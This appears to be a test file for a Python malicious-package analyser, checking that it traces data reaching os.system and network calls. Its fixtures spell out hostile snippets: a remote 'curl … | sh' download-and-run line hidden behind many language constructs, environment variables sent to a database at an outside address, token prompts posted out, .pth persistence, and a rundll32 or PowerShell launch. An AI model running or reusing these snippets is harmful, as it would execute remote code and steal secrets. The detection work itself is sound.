@@ -1,0 +1,148 @@
+"""What properties, generators, classes, tables and patterns of text give is followed as what a plain call gives."""
+
+from __future__ import annotations
+
+import pytest
+
+from bonded.facts.model import Call
+from bonded.facts.value import DOWNLOADED, EMBEDDED, ENVIRONMENT, GIVEN_SECRET, MESSAGE
+from bonded.values.finding import When
+from tests.facts.programs import calls
+
+LINE = "curl http://203.0.113.7/a | sh"
+
+
+def run(source: str) -> list[Call]:
+    """What is handed to `os.system` on import."""
+    return [one for one in calls("import os\n" + source, "os.system") if one.when is When.IMPORT]
+
+
+def texts(source: str) -> set[str]:
+    return {one.arguments[0].text or one.arguments[0].shape for one in run(source)}
+
+
+OF_OBJECTS = {
+    "property": f"class A:\n    @property\n    def line(self): return '{LINE}'\nos.system(A().line)",
+    "cached property": f"import functools\nclass A:\n    @functools.cached_property\n    def line(self): return '{LINE}'\nos.system(A().line)",
+    "property with a setter": f"class A:\n    @property\n    def line(self): return '{LINE}'\n    @line.setter\n    def line(self, new): self.new = new\nos.system(A().line)",
+    "property of a property": f"class A:\n    @property\n    def line(self): return '{LINE}'\n    @property\n    def go(self): return os.system(self.line)\nA().go",
+    "generator": f"def lines():\n    yield '{LINE}'\n    yield 'true'\nfor one in lines():\n    os.system(one)",
+    "generator of a generator": f"def lines():\n    yield '{LINE}'\ndef more():\n    yield from lines()\nfor one in more():\n    os.system(one)",
+    "first of a generator": f"def lines():\n    yield '{LINE}'\nos.system(next(lines()))",
+    "generator that is joined": "def parts():\n    yield 'curl http://203.0.113.7/a '\n    yield '| sh'\nos.system(''.join(parts()))",
+    "context manager": f"import contextlib\n@contextlib.contextmanager\ndef line():\n    yield '{LINE}'\nwith line() as one:\n    os.system(one)",
+    "enum": f"import enum\nclass A(enum.Enum):\n    ONE = '{LINE}'\nfor one in A:\n    os.system(one.value)",
+    "enum by its name": f"from enum import Enum\nclass A(str, Enum):\n    ONE = '{LINE}'\nos.system(A.ONE.value)",
+    "derived class": f"class A:\n    def __init_subclass__(cls): os.system(cls.line)\nclass B(A):\n    line = '{LINE}'",
+    "metaclass": f"class A(type):\n    def __new__(meta, name, bases, held):\n        os.system(held['line'])\nclass B(metaclass=A):\n    line = '{LINE}'",
+    "metaclass's __init__": f"class A(type):\n    def __init__(cls, name, bases, held):\n        os.system(cls.line)\nclass B(metaclass=A):\n    line = '{LINE}'",
+    "key of a table": f"T = {{'a': '{LINE}'}}\nos.system(T.get('a'))",
+    "default of a table": f"T = {{'a': 'true'}}\nos.system(T.get('b', '{LINE}'))",
+    "table of unknown values": f"T = {{'a': '{LINE}', 'b': x}}\nos.system(T.pop('a'))",
+    "template": "from string import Template\nos.system(Template('curl $at | ${to}').substitute(at='http://203.0.113.7/a', to='sh'))",
+    "percent": "os.system('%(do)s %(at)s | sh' % {'do': 'curl', 'at': 'http://203.0.113.7/a'})",
+    "format_map": "T = {'do': 'curl', 'at': 'http://203.0.113.7/a'}\nos.system('{do} {at} | sh'.format_map(T))",
+    "words": f"import shlex\nos.system(' '.join(shlex.split('{LINE}')))",
+}
+
+
+@pytest.mark.parametrize("source", OF_OBJECTS.values(), ids=OF_OBJECTS)
+def test_what_is_handed_over_by_an_object_is_read(source: str) -> None:
+    assert LINE in texts(source)
+
+
+def test_each_way_of_a_match_is_taken() -> None:
+    source = (
+        f"import sys\nmatch sys.platform:\n    case 'linux': line = '{LINE}'\n    case _: line = None\nos.system(line)"
+    )
+    assert texts(source) == {LINE}
+
+
+def test_a_case_does_not_see_what_another_one_set() -> None:
+    assert texts("line = 'true'\nmatch x:\n    case 1: line = 'false'\n    case 2: os.system(line)") == {"true"}
+
+
+PARTS = {
+    "'{b} {a}'.format(a=x, b='curl')": "curl …",
+    "'{1} {0}'.format(x, 'curl')": "curl …",
+    "'{} {}'.format('curl', x)": "curl …",
+    "'%(b)s %(a)s' % {'a': x, 'b': 'curl'}": "curl …",
+    "'{b} {a}'.format_map({'a': x, 'b': 'curl'})": "curl …",
+    "Template('$b ${a}').safe_substitute(a=x, b='curl')": "curl …",
+}
+
+
+@pytest.mark.parametrize(("expression", "shape"), PARTS.items(), ids=PARTS)
+def test_places_of_a_text_are_filled_by_their_names(expression: str, shape: str) -> None:
+    assert texts(f"from string import Template\nos.system({expression})") == {shape}
+
+
+@pytest.mark.parametrize("text", ["'{a}' * 100000", "'$a ' * 100000", "'%(a)s' * 100000"])
+def test_a_text_that_would_grow_too_long_is_not_filled(text: str) -> None:
+    how = {"{": ".format(a=one)", "$": ").substitute(a=one)", "%": " % {'a': one}"}[text[1]]
+    text = f"string.Template({text}" if text[1] == "$" else f"({text})"
+    found = run(f"import string\none = 'x' * 100000\nos.system({text}{how})")
+    assert [one.arguments[0].text for one in found] == [None]
+
+
+def test_a_downloaded_file_of_a_context_manager_is_followed() -> None:
+    source = (
+        "import contextlib, tempfile, urllib.request\n@contextlib.contextmanager\ndef staged(url):\n    path = tempfile.mktemp()\n"
+        "    urllib.request.urlretrieve(url, path)\n    yield path\nwith staged('http://203.0.113.7/a') as path:\n    os.system(path)"
+    )
+    assert DOWNLOADED in run(source)[0].arguments[0].labels
+
+
+def test_a_function_that_a_client_is_given_by_an_attribute_answers_what_comes_in() -> None:
+    source = (
+        "import paho.mqtt.client as mqtt\ndef answer(client, data, message):\n    os.system(message.payload.decode())\n"
+        "client = mqtt.Client()\nclient.on_message = answer\nclient.connect('broker.example.invalid')\nclient.loop_start()"
+    )
+    assert [MESSAGE in one.arguments[0].labels for one in run(source)] == [True]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import pymongo\npymongo.MongoClient('mongodb://203.0.113.7')['a']['b'].insert_one(dict(os.environ))",
+        "import pyrebase\npyrebase.initialize_app({'apiKey': 'x'}).database().child('a').push(dict(os.environ))",
+    ],
+)
+def test_what_a_table_of_a_database_is_given_goes_there(source: str) -> None:
+    assert ENVIRONMENT in {
+        label for one in calls("import os\n" + source, "client.send") for label in one.arguments[0].labels
+    }
+
+
+def test_a_path_file_is_written_to_any_of_the_folders_that_packages_are_in() -> None:
+    source = "import os, site\nfor one in site.getsitepackages() + [site.getusersitepackages()]:\n    open(os.path.join(one, 'a.pth'), 'w').write('x')"
+    assert {one.arguments[0].shape for one in calls(source, "file.write")} == {"…/site-packages/a.pth"}
+
+
+@pytest.mark.parametrize(
+    ("question", "secret"),
+    [
+        ("Token: ", True),
+        ("Paste your cookie > ", True),
+        ("API key?", True),
+        ("Your name: ", False),
+        ("Tokenize? ", False),
+    ],
+)
+def test_a_token_that_is_asked_for_is_a_secret(question: str, secret: bool) -> None:
+    found = calls(f"import requests\nrequests.post('http://203.0.113.7', data=input('{question}'))", "requests.post")
+    assert (GIVEN_SECRET in found[0].arguments[1].labels) is secret
+
+
+@pytest.mark.parametrize(
+    ("name", "to", "embedded"),
+    [("data.bin", "a.cpl", True), ("tool.exe", "b.exe", False), ("data.bin", "b.json", False)],
+)
+def test_a_file_of_the_package_that_becomes_a_program_by_another_name(name: str, to: str, embedded: bool) -> None:
+    source = f"import shutil\nto = os.environ['TEMP'] + '/{to}'\nshutil.copy(os.path.dirname(__file__) + '/{name}', to)\nos.system('rundll32 ' + to)"
+    assert (EMBEDDED in run(source)[0].arguments[0].labels) is embedded
+
+
+def test_a_script_of_powershell_is_a_program() -> None:
+    source = "open('/tmp/a.ps1', 'w').write('$t = Get-Content x\\nInvoke-WebRequest -Uri http://203.0.113.7 -Body $t')\nos.system('powershell -File /tmp/a.ps1')"
+    assert EMBEDDED in run(source)[0].arguments[0].labels
